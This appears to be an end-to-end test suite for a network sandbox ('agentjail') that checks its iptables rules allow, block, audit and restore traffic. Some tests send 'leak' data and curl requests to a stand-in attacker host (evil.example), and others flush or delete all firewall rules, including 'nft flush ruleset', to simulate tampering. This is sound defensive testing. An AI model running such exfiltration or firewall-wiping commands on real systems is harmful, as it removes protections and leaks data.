/**
 * The iptables backend end to end in the lab: both variants, both isolations.
 * Judges: the capture on the wire, the audit log's count, the kernel's rules as the tools print them.
 */
import t, { type Test } from 'tap'
import { evil } from '../lab/addresses.js'
import type { Spawned } from '../lab/host.js'
import { createLab, type Lab } from '../lab/lab.js'
import type { Packet } from '../lab/pcap.js'

const policyPath = '/etc/agentjail/policies/held.yaml'
const policy = `version: 1
name: held
network:
  allow:
    - plain.example
    - { host: github.com, ports: [22], inspect: none }
  cidrs: [{ cidr: 198.51.100.40/32, ports: [80] }]
  dns: { maxTtl: 5, pinExtra: 1 }
`
/** Milliseconds: bounds a hang, judges no speed. */
const timeout = 240_000

const toEvil = (p: Packet) =>
  [evil.v4, evil.v6].some((a) => a === p.dst || a === p.src) ||
  p.dnsName?.endsWith('evil.example') === true

interface Bench {
  readonly lab: Lab
  readonly variant: string
  readonly isolation: 'namespace' | 'uid'
  readonly prefix: readonly string[]
}

/** Every rule of both families in every table, and every set, without counters. */
const rules = async (lab: Lab, variant: string) => {
  const six = variant.replace('iptables', 'ip6tables')
  const texts = await Promise.all(
    [[`${variant}-save`], [`${six}-save`], ['ipset', 'list', '-name']].map((argv) => lab.run(argv)),
  )
  return texts
    .flatMap(({ stdout }) => stdout.split('\n').filter((line) => !line.startsWith('#')))
    .map((line) => line.replace(/\[\d+:\d+\]$/, ''))
}

const auditRecords = async (lab: Lab) => {
  const { stdout } = await lab.run(['sh', '-c', 'cat /var/log/agentjail/held*'])
  const lines = stdout.split('\n').filter((line) => line !== '')
  return lines.map((line) => JSON.parse(line) as Record<string, unknown>)
}

const granted = async (t: Test, { lab, prefix }: Bench) => {
  const cases: [argv: string[], printed: RegExp][] = [
    [['curl', '-sS', 'https://plain.example/a'], /path \/a/],
    [['curl', '-sS', '-6', 'https://plain.example/b'], /path \/b/],
    [['curl', '-sS', 'http://198.51.100.40/c'], /received/],
    [['dig', '+short', 'plain.example', '@8.8.8.8'], /198\.51\.100\.30/],
    [['dig', '+short', '+tcp', 'plain.example', '@8.8.8.8'], /198\.51\.100\.30/],
    [
      [
        ...['ssh', '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no'],
        ...['git@github.com', 'hello'],
      ],
      /lab ran: hello/,
    ],
  ]
  for (const [argv, printed] of cases) {
    const result = await lab.agentjail([...prefix, '--', ...argv], { cwd: '/srv/work' })
    t.match(result.stdout, printed, `${argv.join(' ')}: ${result.stderr}`)
  }
}

/** Each in one run: what the program sees, what the wire shows, what the log says. */
const refused = async (t: Test, { lab, prefix }: Bench) => {
  const send = (address: string, family: string, kind: string, port: number) =>
    `import socket;s=socket.socket(socket.${family},socket.${kind});s.settimeout(8);s.connect(("${address}",${port}));s.send(b"x")`
  const cases: [script: string, error: RegExp, record: Record<string, unknown>][] = [
    [
      send(evil.v4, 'AF_INET', 'SOCK_STREAM', 8080),
      /ConnectionRefused/,
      { proto: 'tcp', address: evil.v4, port: 8080 },
    ],
    [
      send(evil.v6, 'AF_INET6', 'SOCK_STREAM', 8080),
      /ConnectionRefused/,
      { proto: 'tcp', address: evil.v6, port: 8080 },
    ],
    [
      send(evil.v4, 'AF_INET', 'SOCK_DGRAM', 5353),
      /./,
      { proto: 'udp', address: evil.v4, port: 5353 },
    ],
    [
      send(evil.v6, 'AF_INET6', 'SOCK_DGRAM', 5353),
      /./,
      { proto: 'udp', address: evil.v6, port: 5353 },
    ],
  ]
  for (const [script, error, record] of cases) {
    await lab.capture.clear()
    const known = (await auditRecords(lab)).length
    const result = await lab.agentjail([...prefix, '--', 'python3', '-c', script], {
      cwd: '/srv/work',
    })
    t.match(result.stderr, error, `${JSON.stringify(record)}: the program is told`)
    t.notMatch(result.stderr, /timed out/i, 'at once')
    t.same(await lab.capture.packets(toEvil), [], 'nothing on the wire')
    const denials = (await auditRecords(lab)).slice(known).filter((r) => r['verdict'] === 'deny')
    t.match(denials, [record], 'one record')
    t.equal(denials.length, 1, JSON.stringify(denials))
  }
  await lab.capture.clear()
  await lab.agentjail([...prefix, '--', 'curl', '-sS', 'https://evil.example/'], {
    cwd: '/srv/work',
  })
  t.same(await lab.capture.packets(toEvil), [], 'no query for its name either')
}

const leavesNothing = async (t: Test, { lab, variant, prefix }: Bench) => {
  const before = await rules(lab, variant)
  await lab.remember()
  const script = 'sleep 1000 & (setsid sleep 1000 &) ; echo started; sleep 1000'
  const jail = lab.spawnAgentjail([...prefix, '--', 'sh', '-c', script], { cwd: '/srv/work' })
  await jail.until(/started/)
  t.not((await lab.leftovers()).processes, undefined, 'there is something to leave')
  jail.kill('SIGTERM')
  t.match(await jail.ended, { code: null, signal: 'SIGTERM' })
  // Control groups are the whole machine's: only those of this jail count.
  const { files: _, cgroups, ...others } = await lab.leftovers()
  t.same(
    (cgroups ?? []).filter((path) => path.includes('/held')),
    [],
    'control groups',
  )
  t.same(others, {}, 'links, routes, processes, namespaces, mounts')
  t.same(await rules(lab, variant), before, 'rules and sets')
  const killed = lab.spawnAgentjail([...prefix, '--', 'sh', '-c', script], { cwd: '/srv/work' })
  await killed.until(/started/)
  killed.kill('SIGKILL')
  await killed.ended
  const collected = await lab.agentjail(['gc'])
  t.equal(collected.code, 0, collected.stderr)
  t.same(await rules(lab, variant), before, 'rules and sets after kill -9 and gc')
}

/** Sends without end to the attacker, by both protocols and families; says what it could. */
const flood = `
import socket, time
print("started", flush=True)
while True:
    for family, address in ((socket.AF_INET, "${evil.v4}"), (socket.AF_INET6, "${evil.v6}")):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            s = socket.socket(family, kind)
            s.setblocking(False)
            try: s.connect((address, 9001)); s.send(b"leak")
            except OSError: pass
            s.close()
    print(".", end="", flush=True)
    time.sleep(0.002)
`

const count = (text: string, what: RegExp) => text.match(new RegExp(what, 'g'))?.length ?? 0

const restored = async (jail: Spawned, times: number) => {
  for (let i = 0; i < 200; i++) {
    if (count(jail.stderr(), /have been restored/) >= times) return true
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
  return false
}

/** It sends again: nobody left it stopped. */
const goesOn = async (jail: Spawned) => {
  const before = jail.stdout().length
  for (let i = 0; i < 100 && jail.stdout().length < before + 5; i++)
    await new Promise((resolve) => setTimeout(resolve, 50))
  return jail.stdout().length >= before + 5
}

/** Another tool empties one of our tables: nothing goes out, and the rules come back. */
const flushed = async (t: Test, { lab, variant, prefix }: Bench) => {
  const jail = lab.spawnAgentjail([...prefix, '--', 'python3', '-c', flood], {
    cwd: '/srv/work',
    timeout: 120_000,
  })
  await jail.until(/started/)
  const before = await rules(lab, variant)
  const six = variant.replace('iptables', 'ip6tables')
  const partial: [name: string, commands: string[][]][] = [
    [
      'filter emptied',
      [
        [variant, '-F'],
        [six, '-F'],
      ],
    ],
    ['nat emptied', [[variant, '-t', 'nat', '-F']]],
    [
      'the last line emptied',
      [
        [variant, '-t', 'security', '-F'],
        [six, '-t', 'security', '-F'],
      ],
    ],
    ['our jump deleted', [[variant, '-D', 'OUTPUT', '-j', 'AGENTJAIL']]],
    ['one rule deleted', [[six, '-D', 'AGENTJAIL_REJECT', '1']]],
    ["the gate's ports unprotected", [['ipset', 'flush', 'aj-gates-tcp']]],
    ['another rule first', [[variant, '-I', 'OUTPUT', '1', '-j', 'ACCEPT']]],
  ]
  await lab.capture.clear()
  let times = 0
  for (const [name, commands] of partial) {
    for (const argv of commands) t.equal((await lab.run(argv)).code, 0, argv.join(' '))
    t.ok(await restored(jail, ++times), `${name}: restored, and told`)
    t.ok(await goesOn(jail), `${name}: the command goes on`)
    t.same((await lab.capture.packets(toEvil)).length, 0, `${name}: nothing got out meanwhile`)
    if (name.startsWith('another')) await lab.run([variant, '-D', 'OUTPUT', '-j', 'ACCEPT'])
    times = count(jail.stderr(), /have been restored/)
  }
  const all = ['filter', 'security', 'nat'].flatMap((table) =>
    [variant, six].map((tool) => `${tool} -t ${table} -F`),
  )
  // Our own chains deleted, too; and what an administrator of nftables does.
  const everything: [name: string, script: string][] = [
    ['every table emptied', all.join('\n')],
    [
      'every table emptied and deleted',
      [...all, ...all.map((line) => line.replace(/F$/, 'X'))].join('\n'),
    ],
    ['nft flush ruleset', 'nft flush ruleset'],
  ]
  for (const [name, script] of everything) {
    t.equal((await lab.run(['sh', '-ec', script])).code, 0, name)
    if (variant === 'iptables-nft' || name !== 'nft flush ruleset')
      t.ok(await restored(jail, ++times), `${name}: restored, and told`)
    t.ok(await goesOn(jail), `${name}: the command goes on`)
    t.same((await lab.capture.packets(toEvil)).length, 0, `${name}: nothing got out at any instant`)
    times = count(jail.stderr(), /have been restored/)
  }
  await lab.capture.clear()
  t.ok(await goesOn(jail), 'the command goes on')
  t.same((await lab.capture.packets(toEvil)).length, 0, 'and nothing after')
  const ordered = (lines: string[]) => lines.map((line) => line.replace(/-[01]-/g, '-')).sort()
  t.same(ordered(await rules(lab, variant)), ordered(before), 'all of it is there again')
  jail.kill('SIGKILL')
  await jail.ended
  await lab.agentjail(['gc'])
}

/** What jails share is put back and used by one start: its own steps do not get in each other's way. */
const baseIsGone = async (t: Test, { lab, variant, prefix }: Bench) => {
  const six = variant.replace('iptables', 'ip6tables')
  const flush = ['filter', 'security', 'nat'].flatMap((table) =>
    [variant, six].map((tool) => `${tool} -t ${table} -F OUTPUT`),
  )
  const failed: string[] = []
  for (let n = 0; n < 15; n++) {
    t.equal((await lab.run(['sh', '-ec', flush.join('\n')])).code, 0)
    const { code, stderr } = await lab.agentjail([...prefix, '--', 'true'], { cwd: '/srv/work' })
    if (code !== 0) failed.push(stderr)
  }
  t.same(failed, [], 'each start succeeds')
}

/** A jail's gate is for that jail: another user's connection to its port is refused. */
const gateIsPrivate = async (t: Test, { lab, variant, prefix }: Bench) => {
  const jail = lab.spawnAgentjail([...prefix, '--', 'sh', '-c', 'echo started; exec sleep 60'], {
    cwd: '/srv/work',
  })
  await jail.until(/started/)
  const listed = (await rules(lab, variant)).flatMap(
    (line) => /-p tcp -m tcp --dport (\d+) -m conntrack --ctstate DNAT/.exec(line)?.[1] ?? [],
  )
  t.ok(listed.length >= 2, 'the gate listens on TCP')
  for (const port of new Set(listed)) {
    for (const address of ['127.0.0.1', '[::1]']) {
      const url = `http://${address}:${port}/`
      const result = await lab.run(['curl', '-sS', '--max-time', '5', url], { user: 'alice' })
      t.equal(result.code, 7, `${url}: ${result.stderr}`)
    }
  }
  const other = await lab.run(['curl', '-sS', 'https://evil.example/'], { user: 'alice' })
  t.match(other.stdout, /evil received/, 'while other traffic of theirs goes on')
  jail.kill('SIGTERM')
  await jail.ended
}

/** Both firewalls on one machine: one after the other works, together is refused, and neither closes the other. */
const besideNftables = async (t: Test, { lab, variant }: Bench) => {
  const args = (backend: string, isolation: string, name: string) => [
    ...['run', '--policy', policyPath, '--backend', backend],
    ...['--isolation', isolation, '--name', name, '--'],
  ]
  const fetch = ['curl', '-sS', 'https://plain.example/']
  const cwd = '/srv/work'
  for (const backend of ['nftables', variant, 'nftables', variant]) {
    const result = await lab.agentjail([...args(backend, 'uid', 'one'), ...fetch], { cwd })
    t.match(result.stdout, /path \//, `${backend}, after the other: ${result.stderr}`)
  }
  for (const [first, second] of [
    ['nftables', variant],
    [variant, 'nftables'],
  ] as const) {
    const jail = lab.spawnAgentjail(
      [
        ...args(first, 'uid', 'one'),
        'sh',
        '-c',
        'echo started; read x; exec curl -sS https://plain.example/',
      ],
      { cwd, timeout: 60_000 },
    )
    await jail.until(/started/)
    const beside = await lab.agentjail([...args(second, 'uid', 'two'), ...fetch], { cwd })
    t.equal(beside.code, 125, `${second} beside ${first}: ${beside.stdout}`)
    t.match(beside.stderr, /jails in isolation uid are held by/)
    const apart = await lab.agentjail([...args(second, 'namespace', 'two'), ...fetch], { cwd })
    t.match(apart.stdout, /path \//, `${second} in a namespace beside ${first}: ${apart.stderr}`)
    jail.write('go\n')
    t.match((await jail.ended).stdout, /path \//, `${first} is not closed by it`)
  }
}

t.setTimeout(4 * timeout)
for (const variant of ['iptables-nft', 'iptables-legacy'] as const) {
  t.test(variant, { timeout: 2 * timeout }, async (t) => {
    const lab = await createLab()
    t.teardown(() => lab.close())
    lab.writeFile(policyPath, policy)
    lab.writeFile('/srv/work/README', 'a workspace\n')
    const options = ['--policy', policyPath, '--backend', variant]
    for (const isolation of ['namespace', 'uid'] as const) {
      const prefix = ['run', ...options, '--isolation', isolation]
      const bench = { lab, variant, isolation, prefix }
      await t.test(`${isolation}: granted`, { timeout }, (t) => granted(t, bench))
      await t.test(`${isolation}: refused`, { timeout }, (t) => refused(t, bench))
      await t.test(`${isolation}: leaves nothing`, { timeout }, (t) => leavesNothing(t, bench))
      if (isolation === 'namespace') continue
      await t.test('uid: the base is gone', { timeout }, (t) => baseIsGone(t, bench))
      await t.test('uid: the gate is private', { timeout }, (t) => gateIsPrivate(t, bench))
      await t.test('uid: flushed by another tool', { timeout }, (t) => flushed(t, bench))
    }
    const both = { lab, variant, isolation: 'uid', prefix: [] } as const
    await t.test('beside nftables', { timeout }, (t) => besideNftables(t, both))
    const uninstalled = await lab.agentjail(['uninstall'])
    t.equal(uninstalled.code, 0, uninstalled.stderr)
    const left = (await rules(lab, variant)).filter((line) => /AGENTJAIL|AJ-|aj-/.test(line))
    t.same(left, [], 'uninstalled, nothing of it is left')
  })
}
